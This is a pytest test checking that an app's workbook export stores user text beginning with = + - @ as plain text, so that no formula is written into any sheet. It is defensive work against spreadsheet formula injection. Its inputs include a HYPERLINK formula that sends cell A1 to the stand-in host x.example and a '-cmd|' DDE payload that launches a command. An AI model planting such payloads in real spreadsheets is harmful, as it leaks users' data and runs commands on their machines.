"""Every cell the app writes into a workbook is text or a number, never a formula: names and titles
starting with = + - @ reach Excel (and LibreOffice) as the text the user typed."""

from __future__ import annotations

import re
import zipfile

import openpyxl

from hgdesk import services
from tests.conftest import SEEDS

HOSTILE = '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")'


def test_names_and_titles_starting_with_equals_are_written_as_text_in_every_sheet(db, tmp_path):
    annual = services.import_file(db, SEEDS / "seed000.txt")
    quarter = services.derive_quarter(db, annual, 2)
    org = services.program_json(db, quarter)["organization_id"] if "organization_id" in services.program_json(
        db, quarter) else services.list_organizations(db)[0]["id"]
    services.update_organization(db, org, name=HOSTILE)
    services.update_program(db, quarter, title_lines=["=1+1", "-cmd|' /C calc'!A0", "@SUM(A1:A9)"])
    task = services.program_tasks(db, quarter)[0]
    services.update_task(db, task["task_id"], lead_unit="+Ban Tổ chức", result_note="=2*3")
    path = tmp_path / "q2.xlsx"
    services.export_tracking_workbook(db, quarter, path)
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 4  # tasks, indicators, summary, hidden identity
        for name in sheets:
            assert not re.search(rb"<f[ >]", z.read(name)), name
    wb = openpyxl.load_workbook(path)
    seen = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                    seen.append((ws.title, cell.value))
    titles = {sheet for sheet, _ in seen}
    assert {"Nhiệm vụ", "_hgdesk"} <= titles and any(s not in ("Nhiệm vụ", "_hgdesk", "Chỉ tiêu") for s in titles)
    assert ("Nhiệm vụ", "=2*3") in seen and ("Nhiệm vụ", "+Ban Tổ chức") in seen
    # the returned workbook still reads back as the program's own
    assert services.import_tracking_workbook(db, quarter, path)["errors"] == []
